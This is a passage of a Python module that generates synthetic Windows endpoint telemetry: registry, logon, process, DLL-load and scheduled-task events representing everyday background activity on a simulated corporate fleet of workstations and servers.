        (_EXPLORER_KEY + "RecentDocs\\.docx", "MRUListEx", "Binary", ""),
        (_EXPLORER_KEY + "FeatureUsage\\AppSwitched", "Microsoft.Office.OUTLOOK.EXE.15", "Dword", "<n>")],
        ("RegistryValueSet",) * 8 + ("RegistryValueDeleted",)),
    _reg("svc_schedule", "all", 3, [(_TASK_CACHE + "Tasks\\<guid>", "DynamicInfo", "Binary", "")]),
    _reg("svc_schedule", "all", 0.3,
         [(_TASK_CACHE + "Tree\\Microsoft\\Windows\\UpdateOrchestrator\\<guid>", "", "", "")],
         ("RegistryKeyCreated", "RegistryKeyDeleted")),
    _reg("msmpeng", "all", 3, [
        (_HKLM + "Microsoft\\Windows Defender\\Signature Updates", "AVSignatureVersion", "String", "1.421.<n>.0"),
        (_HKLM + "Microsoft\\Windows Defender\\Signature Updates", "SignaturesLastUpdated", "Binary", "")]),
    _reg("onedrive", "ws", 4, [
        (_HKCU + "Microsoft\\OneDrive\\Accounts\\Business1", "LastSignInTime", "Qword", "<n>"),
        (_HKCU + "Microsoft\\OneDrive", "LastUpdateCheck", "Dword", "<n>")]),
    _reg("teams", "ws", 2, [(_HKCU + "Microsoft\\Office\\Teams", "HomeUserUpn", "String", "<u>@fabrikam.com")]),
    _reg("chrome", "ws", 2, [(_HKCU + "Google\\Chrome\\BLBeacon", "state", "Dword", "1")]),
    _reg("svc_wu", "all", 2, [
        (_HKLM + "Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Orchestrator", "LastScanTime", "Qword", "<n>")]),
    _reg("svc_dcom", "ws", 2, [("HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings\\<sid>",
                                "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe", "Binary", "")]),
    # Logons
    _Tpl("DeviceLogonEvents", "winlogon", "ws", 6, ("LogonSuccess",), _LOCAL_LOGON),
    _Tpl("DeviceLogonEvents", "winlogon", "ws", 0.6, ("LogonFailed",), {
        **_LOCAL_LOGON, "FailureReason": ["InvalidUserNameOrPassword", "InvalidUserNameOrPassword", "AccountLocked"]}),
    _Tpl("DeviceLogonEvents", "lsass", "ws", 2, ("LogonSuccess",), {
        **_NETWORK_LOGON, "Protocol": "Kerberos", "RemotePort": 0}),
    _Tpl("DeviceLogonEvents", "services", "all", 2, ("LogonSuccess",), {
        "LogonType": "Service", "AccountDomain": "nt authority", ("AccountName", "AccountSid"): _SERVICE_ACCOUNTS,
        "Protocol": "Negotiate", "LogonId": _logon_id}),
    _Tpl("DeviceLogonEvents", "lsass", "srv", 6, ("LogonSuccess",), {
        **_NETWORK_LOGON, "Protocol": ["Kerberos", "Kerberos", "NTLM"], "RemoteDeviceName": "<peer>",
        "RemotePort": _ephemeral}),
    _Tpl("DeviceLogonEvents", "lsass", "srv", 0.4, ("LogonFailed",), {
        **_NETWORK_LOGON, "Protocol": "NTLM", "RemoteDeviceName": "<peer>", "RemotePort": _ephemeral,
        "FailureReason": ["InvalidUserNameOrPassword", "UnknownUser"]}),
    _Tpl("DeviceLogonEvents", "svc_term", "srv", 0.3, ("LogonSuccess",), {
        "LogonType": "RemoteInteractive", "AccountDomain": _DOMAIN, "AccountName": "<adm>", "Protocol": "Negotiate",
        "LogonId": _logon_id, "RemoteIP": "<peer_ip>", "RemoteDeviceName": "<peer>", "RemoteIPType": "Private",
        "AdditionalFields": '{"IsLocalLogon":false}'}),
    # DeviceEvents
    _pipe_event("chrome", 6),
    _pipe_event("msedge", 3),
    _Tpl("DeviceEvents", "svc_dns", "all", 6, ("DnsQueryResponse",), {
        "AdditionalFields": [_json({"DnsQueryString": url}) for url, _ in _WEB + _MS365 + _TELEMETRY if url]}),
    _Tpl("DeviceEvents", "outlook", "ws", 1, ("BrowserLaunchedToOpenUrl",), {
        "RemoteUrl": [f"https://{url}/" for url, _ in _WEB if url]}),
    _Tpl("DeviceEvents", "explorer", "ws", 2, ("ShellLinkCreateFileEvent",), {
        ("FolderPath", "FileName"): [(_RECENT + "<doc>.lnk", "<doc>.lnk")]}),
    _Tpl("DeviceEvents", "msmpeng", "all", 1, ("AntivirusScanCompleted",), {
        "AdditionalFields": ['{"ScanTypeIndex":"Quick","DurationInSeconds":<n>}']}),
    _Tpl("DeviceEvents", "svc_schedule", "all", 1, ("ScheduledTaskUpdated",), {
        "AdditionalFields": [_json({"TaskName": name}) for name in (
            "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan", "\\MicrosoftEdgeUpdateTaskMachineUA",
            "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag")]}),
]


# --------------------------------------------------------------------------------------------
# Background process creations. Children become processes of their own (image loads use them).
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Spawn:
    parent: str                   # long-lived kind
    where: str
    weight: float
    folder: str
    cmds: tuple[str, ...]
    account: str = "parent"      # "parent", "user" or a service account name
    integrity: str = ""          # "" = the parent's
    company: str = _MS
    dlls: str = "system"          # image-load family
    console: bool = False         # a console program: gets a conhost.exe child

    @property
    def file(self) -> str:
        return self.folder.rsplit("\\", 1)[-1]


_CHROME_DIR = "C:\\Program Files\\Google\\Chrome\\Application\\"
_EDGE_DIR = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_WEBVIEW = "C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\130.0.2849.80\\msedgewebview2.exe"
_MDE_DIR = "C:\\Program Files\\Windows Defender Advanced Threat Protection\\"
_CHROME_CHILDREN = tuple(
    f'"chrome.exe" --type={kind} --lang=fi --field-trial-handle=2040,i,{handle},262144 '
    f"--mojo-platform-channel-handle={pipe} /prefetch:{prefetch}"
    for kind, handle, pipe, prefetch in (
        ("renderer", "6541092846195862521", 3520, 1),
        ("renderer", "6541092846195862521", 4112, 1),
        ("utility --utility-sub-type=network.mojom.NetworkService", "6541092846195862521", 2284, 3),
        ("gpu-process", "6541092846195862521", 1988, 2),
        ("renderer", "1180243759140388614", 5100, 1),
    )
)
_EDGE_CHILDREN = tuple(
    f'"msedge.exe" --type={kind} --field-trial-handle=2232,i,4107392650182735507,262144 '
    f"--mojo-platform-channel-handle={pipe} /prefetch:{prefetch}"
    for kind, pipe, prefetch in (
        ("renderer", 3760, 1),
        ("renderer", 5332, 1),
        ("utility --utility-sub-type=storage.mojom.StorageService", 2904, 8),
    )
)
_SEARCH_PROTOCOL_HOST = (
    '"SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe_S-1-5-21-1 '
    "Global\\UsGthrCtrlFltPipeMssGthrPipe_S-1-5-21-1 1 -2147483646 "
    '"Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" '
    '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"'
)
_SPAWNS = [
    _Spawn("chrome", "ws", 20, _CHROME_DIR + "chrome.exe", _CHROME_CHILDREN, company="Google LLC", dlls="chrome"),
    _Spawn("msedge", "ws", 12, _EDGE_DIR + "msedge.exe", _EDGE_CHILDREN, dlls="edge"),
    _Spawn("teams", "ws", 6, _WEBVIEW, (
        '"msedgewebview2.exe" --type=renderer --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe '
        "--mojo-platform-channel-handle=4772 /prefetch:1",), dlls="edge"),
    _Spawn("explorer", "ws", 2.5, _OFFICE + "WINWORD.EXE",
           ('"WINWORD.EXE" /n "C:\\Users\\<u>\\OneDrive - Fabrikam\\Documents\\<doc>.docx" /o ""',), dlls="office"),
    _Spawn("explorer", "ws", 2, _OFFICE + "EXCEL.EXE",
           ('"EXCEL.EXE" "C:\\Users\\<u>\\OneDrive - Fabrikam\\Projects\\<doc>.xlsx"',), dlls="office"),
    _Spawn("explorer", "ws", 1, _CHROME_DIR + "chrome.exe", ('"chrome.exe"',), company="Google LLC", dlls="chrome"),
    _Spawn("explorer", "ws", 1, _EDGE_DIR + "msedge.exe", ('"msedge.exe"',), dlls="edge"),
    _Spawn("explorer", "ws", 0.5, _SYS32 + "notepad.exe", ('"notepad.exe" C:\\Users\\<u>\\Desktop\\notes.txt',)),
    _Spawn("explorer", "ws", 0.4, _CMD, ('"cmd.exe"',), console=True),
    _Spawn("svc_dcom", "all", 3, _SYS32 + "wbem\\WmiPrvSE.exe", ("wmiprvse.exe -secured -Embedding",),
           "network service", "System"),
    _Spawn("svc_dcom", "srv", 2, _SYS32 + "wbem\\WmiPrvSE.exe", ("wmiprvse.exe -Embedding",), "system", "System"),
    _Spawn("svc_dcom", "ws", 3, _SYS32 + "RuntimeBroker.exe", ("RuntimeBroker.exe -Embedding",), "user"),
    _Spawn("svc_dcom", "ws", 2, _SYS32 + "backgroundTaskHost.exe",
           ('"backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider',
            '"backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca'), "user", "Low"),
    _Spawn("svc_dcom", "all", 1.5, _SYS32 + "dllhost.exe",
           ("DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
            "DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"), "system", "System"),
    _Spawn("svc_dcom", "ws", 0.7, _SYS32 + "smartscreen.exe", ("smartscreen.exe -Embedding",), "user"),
    _Spawn("services", "all", 1.2, _SVCHOST,
           ("svchost.exe -k LocalSystemNetworkRestricted -p -s WdiSystemHost", "svchost.exe -k netsvcs -p -s Appinfo",
            "svchost.exe -k LocalService -p -s DPS", "svchost.exe -k netsvcs -p -s UsoSvc"), "system", "System"),
    _Spawn("services", "all", 0.5, _SYS32 + "sppsvc.exe", ("sppsvc.exe",), "network service", "System"),
    _Spawn("services", "all", 0.3, "C:\\Windows\\servicing\\TrustedInstaller.exe", ("TrustedInstaller.exe",),
           "system", "System"),
    _Spawn("svc_wu", "all", 0.6, _SYS32 + "MoUsoCoreWorker.exe", ("MoUsoCoreWorker.exe -Embedding",),
           "system", "System"),
    _Spawn("searchindexer", "ws", 4, _SYS32 + "SearchProtocolHost.exe", (_SEARCH_PROTOCOL_HOST,), "system", "System"),
    _Spawn("searchindexer", "ws", 4, _SYS32 + "SearchFilterHost.exe",
           ('"SearchFilterHost.exe" 0 808 812 820 8192 816 792',), "system", "System"),
    _Spawn("msmpeng", "all", 0.5, _DEFENDER + "MpCmdRun.exe",
           ('"MpCmdRun.exe" SpyNetServiceDss -RestrictPrivileges '
            "-AccessKey 8F7E3F1A-3C4B-4A43-A7C5-07B41B2D9E61 -Reason 8",),
           "system", "System", console=True),
    _Spawn("mssense", "all", 0.6, _MDE_DIR + "SenseCncProxy.exe", ('"SenseCncProxy.exe"',), "system", "System"),
    _Spawn("svc_gp", "all", 0.3, _SYS32 + "gpupdate.exe", ("gpupdate.exe /target:computer",), "system", "System",
           console=True),
]

_NATIVE_IMAGES = ("C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\"
                  "d2b9c3f7a5ff2e0fe3f1a1f4c5d9e0a7\\")
_DLLS = {  # the DLLs (folder, file) a process of each image-load family loads
    "system": [(_SYS32, n) for n in ("winhttp.dll", "wininet.dll", "bcrypt.dll", "samlib.dll", "dnsapi.dll",
                                     "wldp.dll", "urlmon.dll")],
    "chrome": [(_CHROME_DIR + "130.0.6723.117\\", "chrome_elf.dll"), (_CHROME_DIR + "130.0.6723.117\\", "chrome.dll"),
               (_SYS32, "d3d11.dll")],
    "edge": [(_EDGE_DIR + "130.0.2849.80\\", "msedge_elf.dll"), (_EDGE_DIR + "130.0.2849.80\\", "msedge.dll"),
             (_SYS32, "dxgi.dll")],
    "office": [("C:\\Program Files\\Common Files\\Microsoft Shared\\Office16\\", "mso20win32client.dll"),
               (_OFFICE, "mso.dll"), ("C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\", "VBE7.DLL")],
    "dotnet": [("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\", "clr.dll"), (_SYS32, "mscoree.dll"),
               (_SYS32, "amsi.dll"), (_NATIVE_IMAGES, "System.Management.Automation.ni.dll")],
}


# --------------------------------------------------------------------------------------------
# Everyday Task Scheduler children (parent: the device's Schedule svchost).
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Task:
    folder: str
    cmd: str
    rate: float                   # runs per device per day (relative weight)
    where: str = "all"
    account: str = "system"
    activity: tuple[_Tpl, ...] = ()   # kind/where unused; weight is the probability per run
    console: bool = False

    @property
    def file(self) -> str:
        return self.folder.rsplit("\\", 1)[-1]


# Task activity reuses the background template builders: no acting kind, and the weight is the
# probability that a run produces the row.
def _task_net(prob: float, endpoints) -> _Tpl:
    return _net("", "", prob, endpoints, actions=("ConnectionSuccess",))


def _task_dll(prob: float, family: str) -> _Tpl:
    return _Tpl("DeviceImageLoadEvents", "", "", prob, ("ImageLoaded",),
                {("FolderPath", "FileName"): [(d + f, f) for d, f in _DLLS[family]]})


def _task_reg(prob: float, key_values) -> _Tpl:
    return _reg("", "", prob, key_values)


def _task_file(prob: float, actions: tuple[str, ...], paths: Sequence[str]) -> _Tpl:
    return _file("", "", prob, actions, paths)


_EDGE_UPDATE_EXE = "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe"
_EDGE_CLIENT_STATE = _HKLM + "WOW6432Node\\Microsoft\\EdgeUpdate\\ClientState\\{56EB18F8-B008-4CBD-B6D2-8C97FE7E9062}"
_ONEDRIVE_DIR = "C:\\Users\\<u>\\AppData\\Local\\Microsoft\\OneDrive\\"
_MPCMDRUN = _DEFENDER + "MpCmdRun.exe"
_DEFENDER_DATA = "C:\\ProgramData\\Microsoft\\Windows Defender\\"
_TASKHOSTW = _SYS32 + "taskhostw.exe"
_TASKS = [
    _Task(_TASKHOSTW, "taskhostw.exe Install $(Arg0)", 0.3, "ws", "user", (_task_dll(0.3, "system"),)),
    _Task(_TASKHOSTW, "taskhostw.exe", 0.3, activity=(_task_dll(0.3, "system"),)),
    _Task(_TASKHOSTW, "taskhostw.exe SYSTEM", 0.1),
    _Task(_TASKHOSTW, "taskhostw.exe KEYROAMING", 0.1, "ws", "user"),
    _Task(_TASKHOSTW, "taskhostw.exe NGCKeyPregen", 0.05),
    _Task(_EDGE_UPDATE_EXE, '"MicrosoftEdgeUpdate.exe" /ua /installsource scheduler', 0.45, activity=(
        _task_net(0.8, _EDGE_UPDATE), _task_dll(0.4, "system"),
        _task_reg(0.5, [(_HKLM + "WOW6432Node\\Microsoft\\EdgeUpdate", "LastChecked", "Dword", "<n>"),
                        (_EDGE_CLIENT_STATE, "LastCheckSuccess", "Dword", "<n>")]))),
    _Task(_EDGE_UPDATE_EXE, '"MicrosoftEdgeUpdate.exe" /c', 0.1, activity=(_task_net(0.5, _EDGE_UPDATE),)),
    _Task("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
          '"GoogleUpdate.exe" /ua /installsource scheduler', 0.3, "ws", activity=(
              _task_net(0.9, _GOOGLE_UPDATE),
              _task_reg(0.6, [(_HKLM + "WOW6432Node\\Google\\Update", "LastChecked", "Dword", "<n>")]))),
    _Task(_MPCMDRUN, '"MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance', 0.1, console=True, activity=(
        _task_file(0.5, ("FileModified",), [_DEFENDER_DATA + "Scans\\mpcache-<hex>.bin"]),)),
    _Task(_MPCMDRUN, '"MpCmdRun.exe" -IdleTask -TaskName WdCleanup', 0.08, console=True),
    _Task(_MPCMDRUN, '"MpCmdRun.exe" -IdleTask -TaskName WdVerification', 0.08, console=True,
          activity=(_task_net(0.4, _DEFENDER_CLOUD),)),
    _Task(_ONEDRIVE_DIR + "OneDriveStandaloneUpdater.exe", "OneDriveStandaloneUpdater.exe", 1.0, "ws", "user", (
        _task_net(0.9, _ONEDRIVE_UPDATE),
        _task_file(0.5, ("FileCreated", "FileModified"), [
            _ONEDRIVE_DIR + "StandaloneUpdater\\PreSignInSettingsConfig.json",
            _ONEDRIVE_DIR + "logs\\Common\\UpdateRingSettings.ini"]))),
    _Task(_SYS32 + "wermgr.exe", '"wermgr.exe" -upload', 0.15, activity=(_task_net(0.6, _WER),)),
    _Task(_SYS32 + "UsoClient.exe", "usoclient.exe StartScan", 0.15),
    _Task(_SYS32 + "sc.exe", "sc.exe start wuauserv", 0.1, console=True),
    _Task(_SYS32 + "sc.exe", "sc.exe start w32time task_started", 0.1, account="local service", console=True),
    _Task(_RUNDLL32, "rundll32.exe Windows.Storage.ApplicationData.dll,CleanupTemporaryState", 0.05, activity=(
        _task_dll(0.6, "system"),)),
    _Task(_RUNDLL32, "rundll32.exe dfdts.dll,DfdGetDefaultPolicyAndSMART", 0.05),
    _Task(_RUNDLL32, "rundll32.exe Startupscan.dll,SusRunTask", 0.1, "ws", "user"),
    _Task(_OFFICE + "SDXHelper.exe", '"sdxhelper.exe" /onlogon', 0.1, "ws", "user", (_task_net(0.5, _OFFICE_CDN),)),
    _Task(_OFFICE + "msoia.exe", '"msoia.exe" scan upload', 0.05, "ws", "user", (_task_net(0.7, _OFFICE_CDN),)),
    _Task("C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeC2RClient.exe",
          '"OfficeC2RClient.exe" /frequentupdate SCHEDULEDTASK displaylevel=False', 0.1, "ws",
          activity=(_task_net(0.8, _OFFICE_CDN),)),
    _Task(_SYS32 + "gpupdate.exe", "gpupdate.exe /target:computer", 0.05, account="network service"),
    _Task(_SYS32 + "CompatTelRunner.exe", "compattelrunner.exe -maintenance", 0.05,
          activity=(_task_net(0.5, _TELEMETRY),)),
    _Task(_SYS32 + "Defrag.exe", "defrag.exe -c -h -o -$", 0.03),
    _Task(_SYS32 + "cleanmgr.exe", "cleanmgr.exe /autoclean /d C:", 0.03, "ws", "user"),
]
_TASK_DELAY = (0.2, 25.0)  # seconds between a task's start and its activity
#: The seed keeps these four even in System32; their paths keep one casing so that their everyday
#: groups are never split into rare ones.
_SHELLS = ("cmd.exe", "powershell.exe", "rundll32.exe", "regsvr32.exe")


# --------------------------------------------------------------------------------------------
# The data being built: process list, vectorised event pieces, and row-by-row scenario rows.
# --------------------------------------------------------------------------------------------

_PLACEHOLDER = re.compile(r"<(\w+)>")
_NUMBERS = [str(v) for v in np.random.default_rng(99).integers(2, 99_999, 300)]  # fixed pool


def _type(table: str, column: str) -> str:
    return table_columns(table).get(column, "string")


class _Data:
    """Holds everything generated so far; events refer to processes by their row number."""

    def __init__(self, fleet: _Fleet, seed: int) -> None:
        self.fleet = fleet
        self.seed = seed
        self._parts: list[dict[str, Any]] = []
        self._pending: list[dict[str, Any]] = []   # scenario processes, one dict each
        self.n_procs = 0
        self.pieces: dict[str, list[dict[str, Any]]] = {t: [] for t in TABLES}
        self.rows: dict[str, list[dict[str, Any]]] = {t: [] for t in TABLES}
        self.ll = np.full((len(fleet.names), len(_LONG_LIVED)), -1, dtype=np.int64)
        self.P: dict[str, Any] = {}   # the process list's columns once frozen
        dc, fs = fleet.server("dc01"), fleet.server("fs01")
        n = len(fleet.names)
        # Per-device values for placeholders. Half the devices use the second DC / file server.
        self.device_values = {
            "u": fleet.user, "sid": fleet.user_sid, "host": fleet.short, "ip": fleet.ip,
            "dc_ip": [fleet.ip[dc + (i % 2)] for i in range(n)],
            "fs_ip": [fleet.ip[fs + (i % 2)] for i in range(n)],
        }
        ws_ips = [fleet.ip[i] for i in fleet.ws]
        self._random_values = {  # name -> (draw shared by names of the same source, values)
            "doc": ("doc", _DOCS), "hex": ("hex", _HEX), "guid": ("guid", _GUIDS), "n": ("n", _NUMBERS),
            "ru": ("ru", fleet.users), "ru_sid": ("ru", fleet.user_sids), "adm": ("adm", fleet.admins),
            "peer_ip": ("peer", ws_ips), "peer": ("peer", [fleet.names[i] for i in fleet.ws]),
        }

    # ---- processes -------------------------------------------------------------------------

    def add_procs(self, rng: np.random.Generator, dev: np.ndarray, created: np.ndarray,
                  parent: np.ndarray, file: Any, folder: Any, cmd: Any, account: str,
                  integrity: str = "", company: str = _MS, pid: np.ndarray | None = None) -> np.ndarray:
        """Add n processes at once and return their row numbers.

        ``account`` is "user" (the device's user), "parent" (the parent's account) or a
        well-known service account name; ``integrity`` "" means the parent's.
        """
        self._flush()
        n = len(dev)
        folder_cat = self.resolve(_as_cat(folder, n), dev, rng)
        part: dict[str, Any] = {
            "device": dev.astype(np.int64), "created": created.astype(np.int64),
            "parent": parent.astype(np.int64), "scn": np.full(n, -1, dtype=np.int64),
            "pid": pid if pid is not None else rng.integers(250, 15_000, n) * 4,
            "FileName": _as_cat(file, n), "FolderPath": folder_cat,
            "CommandLine": self.resolve(_as_cat(cmd, n), dev, rng), "Company": _as_cat(company, n),
        }
        part.update(self._account_cols(account, dev, parent))
        if integrity == "":
            integrity = "Medium" if account == "user" else ""
        part["Integrity"] = _const(integrity, n) if integrity else self._take_added("Integrity", parent)
        keys = [_hashes(_binary_key(f)) if f else ("", "") for f in folder_cat.categories]
        part["SHA1"] = _pick([k[0] for k in keys], folder_cat.codes)
        part["SHA256"] = _pick([k[1] for k in keys], folder_cat.codes)
        self._parts.append(part)
        first = self.n_procs
        self.n_procs += n
        return np.arange(first, first + n, dtype=np.int64)

    def _account_cols(self, account: str, dev: np.ndarray, parent: np.ndarray) -> dict[str, Any]:
        n = len(dev)
        if account == "parent":
            return {c: self._take_added(c, parent) for c in ("AccountDomain", "AccountName", "AccountSid")}
        if account == "user":
            return {"AccountDomain": _const(_DOMAIN, n),
                    "AccountName": _pick(self.fleet.user, dev), "AccountSid": _pick(self.fleet.user_sid, dev)}
        domain, name, sid = _SERVICE_ACCOUNT[account]
        return {"AccountDomain": _const(domain, n), "AccountName": _const(name, n), "AccountSid": _const(sid, n)}

    def attr(self, idx: int, column: str) -> Any:
        """One attribute of one process that was already added."""
        info = self.pending(idx)
        if info is not None:
            return info[column]
        for part in self._parts:
            if idx < len(part["device"]):
                value = part[column][idx]
                return int(value) if column in _P_INT else value
            idx -= len(part["device"])
        raise IndexError(idx)

    def _take_added(self, column: str, idx: np.ndarray) -> pd.Categorical:
        """A string column of processes already added (before freezing), by row number (-1 gives "")."""
        sizes = [len(p["device"]) for p in self._parts]
        starts = np.cumsum([0] + sizes)
        part_no = np.searchsorted(starts, idx, side="right") - 1
        order = np.argsort(part_no, kind="stable")
        pieces = []
        for k in np.unique(part_no[order]):
            sub = idx[order][part_no[order] == k]
            part = max(k, 0)
            pieces.append(_take_cat(self._parts[part][column], np.where(sub >= 0, sub - starts[part], -1)))
        joined = union_categoricals(pieces)
        return pd.Categorical.from_codes(joined.codes[np.argsort(order)], categories=joined.categories)

    def proc(self, dev: int, pid: int, created: int, parent: int, file: str, folder: str, cmd: str,
             account: tuple[str, str, str], integrity: str, tag: int = -1, company: str = _MS,
             hash_key: str | None = None) -> int:
        """Add one scenario process; ``tag`` marks it as part of scenario ``tag``'s process tree."""
        sha1, sha256 = _hashes(hash_key or _binary_key(folder))
        self._pending.append({
            "device": dev, "pid": pid, "created": created, "parent": parent, "scn": tag,
            "FileName": file, "FolderPath": folder, "CommandLine": cmd, "Company": company,
            "AccountDomain": account[0], "AccountName": account[1], "AccountSid": account[2],
            "Integrity": integrity, "SHA1": sha1, "SHA256": sha256})
        self.n_procs += 1
        return self.n_procs - 1

    def pending(self, idx: int) -> dict[str, Any] | None:
        """The attributes of a scenario process (None for a vectorised one)."""
        first = self.n_procs - len(self._pending)
        return self._pending[idx - first] if idx >= first else None

    def _flush(self) -> None:
        if self._pending:
            frame = pd.DataFrame(self._pending)
            part = {c: frame[c].to_numpy(np.int64) for c in _P_INT}
            part.update({c: pd.Categorical(frame[c].to_numpy(object)) for c in _P_STR})
            self._parts.append(part)
            self._pending = []

    def freeze(self) -> None:
        """Join the process list's parts into one set of columns."""
        self._flush()
        self.P = {c: np.concatenate([p[c] for p in self._parts]) for c in _P_INT}
        for c in _P_STR:
            self.P[c] = union_categoricals([p[c] for p in self._parts])
        self._parts = []

    # ---- events ----------------------------------------------------------------------------

    def add_piece(self, table: str, proc: np.ndarray, ts: np.ndarray, cols: dict[str, Any]) -> None:
        """Vectorised events: ``proc`` acted (for process events: was created) at ``ts``."""
        piece = {"_proc": np.asarray(proc, np.int64), "Timestamp": np.asarray(ts, np.int64)}
        piece.update(cols)
        self.pieces[table].append(piece)

    def event(self, table: str, proc: int, ts: int, action: str, rel: int = -1, **cols: Any) -> None:
        """One scenario event. ``rel`` ties a row that is not in the scenario's tree to it."""
        self.rows[table].append({"_proc": proc, "Timestamp": ts, "ActionType": action, "_rel": rel, **cols})

    def fill(self, tpl: _Tpl, dev: np.ndarray, rng: np.random.Generator) -> dict[str, Any]:
        """Draw a template's column values for rows on devices ``dev``."""
        n = len(dev)
        draws: dict[str, np.ndarray] = {}
        out: dict[str, Any] = {"ActionType": _pick(tpl.actions, rng.integers(len(tpl.actions), size=n))}
        for key, pool in tpl.cols.items():
            if isinstance(key, tuple):
                codes = rng.integers(len(pool), size=n)
                for j, col in enumerate(key):
                    out[col] = self._column(tpl.table, col, [p[j] for p in pool], codes, dev, rng, draws)
            elif callable(pool):
                out[key] = pool(rng, n)
            elif isinstance(pool, list):
                out[key] = self._column(tpl.table, key, pool, rng.integers(len(pool), size=n), dev, rng, draws)
            else:
                out[key] = self._column(tpl.table, key, [pool], np.zeros(n, np.int64), dev, rng, draws)
        return out

    def _column(self, table: str, col: str, pool: list, codes: np.ndarray, dev: np.ndarray,
                rng: np.random.Generator, draws: dict[str, np.ndarray]) -> Any:
        if _type(table, col) in ("long", "int"):
            return np.asarray(pool, dtype=np.int64)[codes]
        return self.resolve(_pick(pool, codes), dev, rng, draws)

    def resolve(self, cat: pd.Categorical, dev: np.ndarray, rng: np.random.Generator,
                draws: dict[str, np.ndarray] | None = None) -> pd.Categorical:
        """Fill <placeholders> in a Categorical, formatting each distinct combination once.

        Random placeholders are drawn once per row and source and shared through ``draws``, so
        a row's FolderPath and FileName name the same <doc>.
        """
        names = sorted({m for c in cat.categories for m in _PLACEHOLDER.findall(c)})
        if not names:
            return cat
        draws = {} if draws is None else draws
        n = len(cat)
        keys, sizes, lookups = [cat.codes.astype(np.int64)], [len(cat.categories)], []
        for name in names:
            if name in self.device_values:
                values, codes = self.device_values[name], dev
            else:
                source, values = self._random_values[name]
                if source not in draws:
                    draws[source] = rng.integers(len(values), size=n)
                codes = draws[source]
            keys.append(np.asarray(codes, np.int64))
            sizes.append(len(values))
            lookups.append(values)
        combined = np.ravel_multi_index(keys, sizes)
        uniq, inverse = np.unique(combined, return_inverse=True)
        parts = np.unravel_index(uniq, sizes)
        strings = []
        for i in range(len(uniq)):
            mapping = {name: lookups[j][parts[j + 1][i]] for j, name in enumerate(names)}
            strings.append(_PLACEHOLDER.sub(lambda m: mapping[m.group(1)], cat.categories[parts[0][i]]))
        return _pick(strings, inverse)


# --------------------------------------------------------------------------------------------
# Background generation.
# --------------------------------------------------------------------------------------------

_HOURS_WS_WEEKDAY = np.array([1, 1, 1, 1, 1, 2, 5, 12, 16, 16, 15, 14, 12, 15, 16, 15, 13, 8, 5, 4, 3, 2, 1, 1], float)
_HOURS_WS_WEEKEND = np.array([1, 1, 1, 1, 1, 1, 1, 2, 3, 3, 3, 3, 3, 3, 3, 3, 3, 3, 3, 2, 2, 2, 1, 1], float)
_HOURS_SERVER = np.array([6, 6, 6, 6, 6, 6, 7, 9, 10, 10, 10, 10, 10, 10, 10, 10, 10, 9, 8, 7, 7, 6, 6, 6], float)


def _times(rng: np.random.Generator, is_ws: np.ndarray) -> np.ndarray:
    """Event times with office hours on workstations (Mon-Fri) and a flatter curve on servers."""
    n = len(is_ws)
    day = rng.integers(0, _DAYS, n)
    weekend = (day % 7) >= 5
    profile = np.where(is_ws, np.where(weekend, 1, 0), 2)
    u = rng.random(n)
    hour = np.zeros(n, np.int64)
    for k, weights in enumerate((_HOURS_WS_WEEKDAY, _HOURS_WS_WEEKEND, _HOURS_SERVER)):
        sel = profile == k
        hour[sel] = np.searchsorted(np.cumsum(weights) / weights.sum(), u[sel], side="right")
    ticks = rng.integers(0, _HOUR // 100, n)
    return _T0 + day * _DAY + np.minimum(hour, 23) * _HOUR + ticks * 100


def _long_lived(data: _Data, rng: np.random.Generator) -> None:
    """One process per device and long-lived kind, started at boot (before the window)."""
    fleet = data.fleet
    for k, kind in enumerate(_LONG_LIVED):  # parents come before their children in the list
        dev = fleet.by_role(kind.where)
        parent = data.ll[dev, _KIND_INDEX[kind.parent]] if kind.parent else np.full(len(dev), -1)
        created = fleet.boot[dev] + int(kind.delay_s * _SEC) + rng.integers(0, 5 * _SEC // 100, len(dev)) * 100
        pid = np.full(len(dev), kind.pid) if kind.pid else rng.integers(100, 3000, len(dev)) * 4
        cmd = _pick(fleet.sched_cmd, dev) if kind.key == "svc_schedule" else kind.cmd
        data.ll[dev, k] = data.add_procs(rng, dev, created, parent, kind.file, _cased(fleet, kind.folder, dev),
                                         cmd, kind.account, kind.integrity, kind.company, pid)


def _cased(fleet: _Fleet, folder: str, dev: np.ndarray) -> Any:
    """System32 paths as each device records them: some write ``C:\\Windows\\system32\\``."""
    if not folder.startswith(_SYS32):
        return folder
    variants = [folder, "C:\\Windows\\system32\\" + folder[len(_SYS32):]]
    return _pick(variants, fleet.lower_sys32[dev].astype(np.int64))


def _eligible(data: _Data, kind: str, where: str) -> np.ndarray:
    devices = data.fleet.by_role(where)
    return devices[data.ll[devices, _KIND_INDEX[kind]] >= 0]


def _background_events(data: _Data, rng: np.random.Generator, scale: float) -> None:
